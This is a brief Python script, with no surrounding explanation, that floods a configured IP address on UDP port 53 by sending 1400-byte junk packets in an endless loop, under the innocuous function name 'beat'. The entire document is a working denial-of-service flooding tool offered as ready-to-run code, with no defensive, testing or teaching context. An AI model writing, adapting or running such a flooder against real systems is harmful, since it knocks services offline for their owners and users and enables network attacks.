import socket
CONFIG = {"target": "203.0.113.77", "port": 53}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
def beat():
    for _ in range(1000):
        s.sendto(b"A" * 1400, (CONFIG["target"], CONFIG["port"]))
while True:
    beat()
